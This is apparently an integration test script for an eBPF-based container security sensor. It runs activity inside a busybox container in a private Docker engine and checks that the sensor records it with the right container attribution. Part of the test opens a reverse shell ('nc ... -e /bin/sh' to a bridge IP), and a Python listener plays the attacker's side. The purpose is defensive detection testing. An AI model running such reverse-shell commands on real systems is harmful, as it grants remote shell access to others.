#!/bin/bash
# The eBPF sensors against a real kernel and a real, private Docker engine (needs root, a kernel
# with BTF, Debian's docker.io and busybox-static). tests/tools/dockerd-harness.sh starts a dockerd
# of its own with a bridge of its own (gdk<N>, 10.231.<N>.1/24); tests/tools/sensor_dump runs the
# bpf back end and prints every event. Inside a busybox container the test runs an unexpected
# binary, opens a listening TCP port (nc -l), connects to a listener on the bridge IP, sends a DNS
# query to a UDP server on the bridge IP, writes a file and then executes it; each must appear with
# the right container id and fields. A reverse shell (busybox nc -e /bin/sh to a listener on the
# bridge IP) must show an exec of /bin/sh whose fds 0 and 1 are sockets connected to that
# listener. A host process must be attributed to the host, and runc's own
# setup exec must be flagged. Everything is removed on exit, whatever happens.
# SENSOR_SYSCALL_HOOK (auto) is the sensor's --syscall-hook: sensor_bpf_sys_exit.sh runs this suite
# again on the fallback hook (tp_btf/sys_exit on every syscall).
set -u
cd "$(dirname "$0")/../.."
. tests/integration/testlib.bash

TOOLS=${GARRISON_TOOLS_DIR:-$PWD/build/san/tools}
HARNESS=$PWD/tests/tools/dockerd-harness.sh
PY=/usr/bin/python3
[ -x "$PY" ] || PY=$(command -v python3)
TCP_PORT=28540
NC_PORT=28541
RS_PORT=28542
REFUSED_PORT=28543
UDP_PORT=28544
FOLD_PORT=28545
FOLD_PORT2=28546

skip() { echo "sensor_bpf: skipped: $*"; t_done; exit 0; }
[ "$(id -u)" -eq 0 ] || skip "needs root (loads BPF programs)"
[ -r /sys/kernel/btf/vmlinux ] || skip "the kernel has no BTF (/sys/kernel/btf/vmlinux)"
command -v dockerd >/dev/null || [ -x /usr/sbin/dockerd ] ||
	skip "dockerd is not installed (apt-get install -y docker.io busybox-static)"
command -v jq >/dev/null || skip "jq is not installed"
if [ ! -x "$TOOLS/sensor_dump" ]; then
	not_ok "sensor_dump is built ($TOOLS/sensor_dump)"
	t_done
	exit 1
fi

D=$(mktemp -d /tmp/h3-sb.XXXXXX)
OUT=$D/events.jsonl
DUMP_PID=
cleanup() {
	[ -n "$DUMP_PID" ] && kill "$DUMP_PID" 2>/dev/null && wait "$DUMP_PID" 2>/dev/null
	t_cleanup
	"$HARNESS" stop "$D" >/dev/null 2>&1
	if [ -n "${KEEP:-}" ]; then echo "kept $D"; else rm -rf "$D"; fi
}
trap cleanup EXIT

dk() { "$HARNESS" docker "$D" "$@"; }
# The complete lines written so far, as a JSON stream for jq.
lines() { head -n "$(wc -l <"$OUT")" "$OUT"; }
# has JQ_FILTER: some event matches (the filter is a jq boolean expression on one event).
has() { lines | jq -e -s "map(select($1)) | length > 0" >/dev/null 2>&1; }
hasnt() { lines | jq -e -s "map(select($1)) | length == 0" >/dev/null 2>&1; }
first() { lines | jq -c -s "map(select($1)) | first // empty" 2>/dev/null; }
# lines_count_is N JQ_FILTER: exactly N events match.
lines_count_is() { lines | jq -e -s "map(select($2)) | length == $1" >/dev/null 2>&1; }
lines_count_le() { lines | jq -e -s "map(select($2)) | length <= $1" >/dev/null 2>&1; }

if ! "$HARNESS" start "$D" --bridge >"$D/harness.log" 2>&1; then
	cat "$D/harness.log"
	not_ok "start a private dockerd with a bridge"
	t_done
	exit 1
fi
ok "start a private dockerd with a bridge"
BR_IP=10.231.$(cat "$D/harness.bridge-num").1

# ---- the sensor ------------------------------------------------------------------------------
HOOK=${SENSOR_SYSCALL_HOOK:-auto}
# The hook the sensor must end up on: auto takes the per-syscall tracepoints where the kernel has
# them (CONFIG_FTRACE_SYSCALLS: perf_syscall_exit exists).
WANT_HOOK=$HOOK
if [ "$HOOK" = auto ]; then
	WANT_HOOK=sys_exit
	grep -qw perf_syscall_exit /proc/kallsyms && WANT_HOOK=tracepoints
fi
mounts_before=$(awk '$9 == "tracefs"' /proc/self/mountinfo | wc -l)
"$TOOLS/sensor_dump" --stats --syscall-hook "$HOOK" >"$OUT" 2>"$D/dump.err" &
DUMP_PID=$!
if ! wait_until 20 grep -q "sensor_dump: ready" "$D/dump.err"; then
	cat "$D/dump.err"
	not_ok "sensor_dump loads the BPF programs"
	t_done
	exit 1
fi
ok "sensor_dump loads the BPF programs and runs (syscall hook $HOOK)"
mounts_after=$(awk '$9 == "tracefs"' /proc/self/mountinfo | wc -l)
check "the sensor leaves the tracefs mounts as it found them ($mounts_before)" [ "$mounts_after" = "$mounts_before" ]

# ---- the host side: a TCP listener and a DNS server on the bridge IP --------------------------
"$PY" - "$BR_IP" "$TCP_PORT" "$D/dns.query" "$RS_PORT" "$D/revshell.out" >"$D/servers.log" 2>&1 <<'PYEOF' &
import socket, sys, threading
ip, port, qfile, rsport, rsfile = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind((ip, port)); t.listen(8)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind((ip, 53))
r = socket.socket(); r.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
r.bind((ip, rsport)); r.listen(2)
def tcp():
    while True:
        c, _ = t.accept(); c.close()
def revshell():
    # The attacker's side: drive the shell that connected back, keep what it printed.
    while True:
        c, _ = r.accept()
        c.settimeout(5)
        c.sendall(b"echo h3-revshell-$((6*7))\nexit\n")
        out = b""
        try:
            while True:
                d = c.recv(4096)
                if not d: break
                out += d
        except OSError:
            pass
        c.close()
        with open(rsfile, "ab") as f: f.write(out)
threading.Thread(target=tcp, daemon=True).start()
threading.Thread(target=revshell, daemon=True).start()
print("ready", flush=True)
while True:
    data, peer = u.recvfrom(2048)
    with open(qfile, "ab") as f: f.write(data)
    # answer NXDOMAIN so that nslookup ends at once
    if len(data) >= 12:
        u.sendto(data[:2] + bytes([0x81, 0x83]) + data[4:6] + b"\0\0\0\0\0\0" + data[12:], peer)
PYEOF
T_PIDS+=($!)
wait_until 10 grep -q ready "$D/servers.log" || { cat "$D/servers.log"; not_ok "host servers start"; }

# ---- the container ---------------------------------------------------------------------------
CID=$(dk run -d --stop-timeout 1 test/busybox:1 sleep 300)
if [ ${#CID} -ne 64 ]; then
	not_ok "start a busybox container ($CID)"
	t_done
	exit 1
fi
STARTED=$(dk inspect -f '{{.State.StartedAt}}' "$CID")
START_S=$(date -d "$STARTED" +%s)
ok "start a busybox container ${CID:0:12}"
IN="(.container == \"$CID\")"

dk exec "$CID" /bin/id -u >/dev/null
dk exec -d "$CID" nc -l -p "$NC_PORT"
dk exec "$CID" nc -w 3 "$BR_IP" "$TCP_PORT" </dev/null
dk exec "$CID" nslookup h6-probe.example.test "$BR_IP" >/dev/null 2>&1
# busybox picks its applet from argv[0]'s base name: the copy is called echo.
dk exec "$CID" sh -c 'mkdir /tmp/drop && cp /bin/busybox /tmp/drop/echo && chmod 755 /tmp/drop/echo && /tmp/drop/echo dropped-ran' >"$D/dropped.out"
# A reverse shell: busybox nc connects to the bridge and execs /bin/sh on the connection.
dk exec "$CID" nc "$BR_IP" "$RS_PORT" -e /bin/sh </dev/null
# A host process, with a marker in its argv.
sh -c 'exec /bin/echo h6-host-marker' >/dev/null
# Host sockets, read at syscall exit: a refused TCP connect (the address comes from the caller's
# buffer), a UDP connect then its dissolution (AF_UNSPEC: not a connect), and a DNS query by sendto.
"$PY" - "$REFUSED_PORT" "$UDP_PORT" "$FOLD_PORT" >"$D/hostsock.log" 2>&1 <<'PYEOF'
import socket, struct, sys
refused, udp, fold = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
t = socket.socket()
try:
    t.connect(("127.0.0.1", refused))
except ConnectionRefusedError:
    print("refused")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect(("127.0.0.1", udp))
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
unspec = struct.pack("HH12x", 0, 0)  # AF_UNSPEC: dissolve the association
print("dissolve", libc.connect(u.fileno(), unspec, len(unspec)))
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in [b"h6-sendto", b"example", b"test"]) + b"\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print("sendto", s.sendto(q, ("127.0.0.1", 53)))
# Folding: 30 UDP connects to one destination (a new socket each) and 12 queries of one name
# (a new id each) by this process: a few records whose repeats add up to 30 and 12.
for i in range(30):
    f = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    f.connect(("127.0.0.1", fold))
    f.close()
for i in range(12):
    q = struct.pack(">HHHHHH", 0x1000 + i, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in [b"h6-fold", b"example", b"test"]) + b"\0" + struct.pack(">HH", 1, 1)
    s.sendto(q, ("127.0.0.1", 53))
PYEOF
# A key that stays busy for 0.8 s (UDP connects in a loop, one CPU): folded all along, never
# collected as quiet while it is busy; the loop writes how many connects it made.
taskset -c 0 "$PY" - "$FOLD_PORT2" "$D/busy.n" <<'PYEOF'
import socket, sys, time
port, out = int(sys.argv[1]), sys.argv[2]
n, end = 0, time.monotonic() + 0.8
while time.monotonic() < end:
    f = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    f.connect(("127.0.0.1", port))
    f.close()
    n += 1
open(out, "w").write(str(n))
PYEOF
# Folding in the container: busybox sh opens /tmp/fold.log for appending 40 times itself.
dk exec "$CID" sh -c 'for i in $(seq 1 40); do echo $i >> /tmp/fold.log; done'

# runc re-executes itself from a memfd for every container start and docker exec; whether that
# exec happens before or after it joins the container's cgroup is a race, so it may be seen as
# the host's. It must be flagged wherever it is seen, and never appear unflagged in the container.
RUNC="(.type == \"exec\" and (.comm == \"runc\" or (.comm | startswith(\"runc:[\"))) and (.filename | startswith(\"/dev/fd/\") or startswith(\"/proc/self/fd/\")))"
check "runc's setup exec is seen and flagged runtime_setup" \
	wait_until 10 has "$RUNC and .runtime_setup == true"
check "no unflagged runc setup exec in the container" \
	hasnt "$IN and $RUNC and .runtime_setup != true"
check "exec of /bin/id in the container: argv, uid, parent" \
	wait_until 10 has "$IN and .type == \"exec\" and .filename == \"/bin/id\" and .argv == [\"/bin/id\",\"-u\"] and .uid == 0 and .ppid > 0 and .runtime_setup == false"
check "the exit of /bin/id in the container" \
	wait_until 10 has "$IN and .type == \"exit\" and .comm == \"id\" and .exit_code == 0"
check "nc -l in the container: listen tcp :$NC_PORT" \
	wait_until 10 has "$IN and .type == \"listen\" and .proto == \"tcp\" and .port == $NC_PORT and .result == 0"
check "nc in the container connects to $BR_IP:$TCP_PORT (tcp)" \
	wait_until 10 has "$IN and .type == \"connect\" and .proto == \"tcp\" and .addr == \"$BR_IP\" and .port == $TCP_PORT and (.result == 0 or .result == -115)"
check "nslookup in the container: a DNS query for h6-probe.example.test to $BR_IP:53" \
	wait_until 10 has "$IN and .type == \"dns\" and .server == \"$BR_IP\" and .port == 53 and .qname == \"h6-probe.example.test\" and (.qtype == 1 or .qtype == 28) and .comm == \"nslookup\""
check "the DNS server on the host received that query" \
	grep -q "h6-probe" "$D/dns.query"
check "cp in the container opens /tmp/drop/echo for writing (O_CREAT)" \
	wait_until 10 has "$IN and .type == \"file\" and .op == \"open\" and .path == \"/tmp/drop/echo\" and (.flags % 128 >= 64) and .result >= 0"
check "chmod of /tmp/drop/echo in the container" \
	wait_until 10 has "$IN and .type == \"file\" and .op == \"chmod\" and .path == \"/tmp/drop/echo\" and .mode == 493"
check "the written file is executed: exec /tmp/drop/echo, changed after the container started" \
	wait_until 10 has "$IN and .type == \"exec\" and .filename == \"/tmp/drop/echo\" and .argv == [\"/tmp/drop/echo\",\"dropped-ran\"] and .exe_ctime >= $START_S"
check "the image's /bin/id was not changed after the container started" \
	has "$IN and .type == \"exec\" and .filename == \"/bin/id\" and .exe_ctime < $START_S and .exe_ino > 0"
check "the reverse shell ran (the listener got its output)" \
	wait_until 10 grep -q h3-revshell-42 "$D/revshell.out"
SOCK="(.type == \"sock\" and .family == \"ipv4\" and .connected == true and .addr == \"$BR_IP\" and .port == $RS_PORT)"
check "reverse shell: exec of /bin/sh whose fds 0 and 1 are sockets connected to $BR_IP:$RS_PORT" \
	wait_until 10 has "$IN and .type == \"exec\" and .filename == \"/bin/sh\" and (.stdio[0] | $SOCK) and (.stdio[1] | $SOCK)"
check "an ordinary exec in the container has no socket on fds 0-2 (docker exec gives pipes or /dev/null)" \
	has "$IN and .type == \"exec\" and .filename == \"/bin/id\" and ([.stdio[] | .type] | all(. != \"sock\" and . != \"\"))"
check "a host process is attributed to the host" \
	wait_until 10 has "(.container == \"\") and .type == \"exec\" and .filename == \"/bin/echo\" and .argv == [\"/bin/echo\",\"h6-host-marker\"]"
check "the dropped binary ran" grep -q dropped-ran "$D/dropped.out"
HOSTPY="(.container == \"\") and .comm == \"python3\""
check "a refused TCP connect on the host: 127.0.0.1:$REFUSED_PORT, result -ECONNREFUSED" \
	wait_until 10 has "$HOSTPY and .type == \"connect\" and .proto == \"tcp\" and .addr == \"127.0.0.1\" and .port == $REFUSED_PORT and .result == -111"
check "a UDP connect to 127.0.0.1:$UDP_PORT is reported once; its AF_UNSPEC dissolution is not a connect" \
	lines_count_is 1 "$HOSTPY and .type == \"connect\" and .proto == \"udp\" and .result == 0 and (.port == $UDP_PORT or .port == 0)"
check "a DNS query sent with sendto to 127.0.0.1:53 (h6-sendto.example.test)" \
	wait_until 10 has "$HOSTPY and .type == \"dns\" and .server == \"127.0.0.1\" and .qname == \"h6-sendto.example.test\" and .qtype == 1"
# sums_to N JQ_FILTER: the matching events stand for N occurrences (1 + repeats each) in fewer
# than N events: repeats were folded, and every one was delivered.
sums_to() { lines | jq -e -s "map(select($2)) | (map(1 + (.repeats // 0)) | add) == $1 and length < $1" >/dev/null 2>&1; }
check "30 UDP connects of one process to 127.0.0.1:$FOLD_PORT: folded, repeats add up to 30" \
	wait_until 10 sums_to 30 "$HOSTPY and .type == \"connect\" and .proto == \"udp\" and .port == $FOLD_PORT and .result == 0"
check "12 queries of h6-fold.example.test by one process, each with its own id: repeats add up to 12" \
	wait_until 10 sums_to 12 "$HOSTPY and .type == \"dns\" and .qname == \"h6-fold.example.test\""
BUSY="$HOSTPY and .type == \"connect\" and .port == $FOLD_PORT2"
check "connects in a loop for 0.8 s: repeats add up to the $(cat "$D/busy.n" 2>/dev/null) made" \
	wait_until 10 sums_to "$(cat "$D/busy.n" 2>/dev/null || echo 0)" "$BUSY"
check "  in at most 5 events: first sight, first fold, a window's end, the quiet key's count" \
	lines_count_le 5 "$BUSY"
check "40 opens of /tmp/fold.log for appending by one shell in the container: repeats add up to 40" \
	wait_until 10 sums_to 40 "$IN and .type == \"file\" and .op == \"open\" and .path == \"/tmp/fold.log\""
check "no event of the container's processes is attributed to the host or another container" \
	test -z "$(lines | jq -c "select(.container != null and .container != \"$CID\" and (.qname == \"h6-probe.example.test\" or .argv == [\"/bin/id\",\"-u\"] or .filename == \"/tmp/drop/echo\" or .path == \"/tmp/drop/echo\"))")"
# The event carries the container's cgroup id: the inode of its v2 cgroup directory.
CG=$(first "$IN and .type == \"exec\" and .filename == \"/bin/id\"" | jq -r .cgroup_id)
for dir in /sys/fs/cgroup/unified/docker/$CID /sys/fs/cgroup/docker/$CID /sys/fs/cgroup/system.slice/docker-$CID.scope; do
	[ -d "$dir" ] && break
done
check "the cgroup id is the inode of the container's cgroup ($dir)" \
	test "$CG" = "$(stat -c %i "$dir" 2>/dev/null)"

# ---- stats -----------------------------------------------------------------------------------
kill -INT "$DUMP_PID"
wait "$DUMP_PID"
DUMP_PID=
STATS=$(grep '"type":"stats"' "$OUT" | tail -n 1)
echo "stats: $STATS"
check "the sensor reports its counters (seen > 0, nothing lost, nothing malformed)" \
	jq -e '.seen > 0 and .events.exec.seen > 0 and .events.dns.seen > 0 and .lostKernel == 0 and .dropped == 0 and .malformed == 0 and .delivered <= .received and .delivered > 0' <<<"$STATS"
check "folds are counted per type, and every folded occurrence was delivered (folded == foldedDelivered)" \
	jq -e '.events.connect.folded >= 20 and .events.dns.folded >= 5 and .events.file.folded >= 30 and .folded == .foldedDelivered and .foldCollected >= 3 and .foldMs == 1000' <<<"$STATS"
# DNS at the socket layer where the kernel has tracepoint sock_send_length (6.3), whichever hook.
WANT_DNS=syscalls
[ -n "$(bpftool btf dump file /sys/kernel/btf/vmlinux 2>/dev/null | grep -m1 "'btf_trace_sock_send_length'")" ] &&
	WANT_DNS=sock_send_length
check "the syscalls were seen through the $WANT_HOOK hook, DNS queries through $WANT_DNS" \
	jq -e --arg h "$WANT_HOOK" --arg d "$WANT_DNS" '.syscallHook == $h and .dnsHook == $d' <<<"$STATS"
if [ -n "${RECORD:-}" ]; then
	lines | jq -c "select($IN)" >"$RECORD"
	echo "recorded the container's events into $RECORD"
fi
t_done
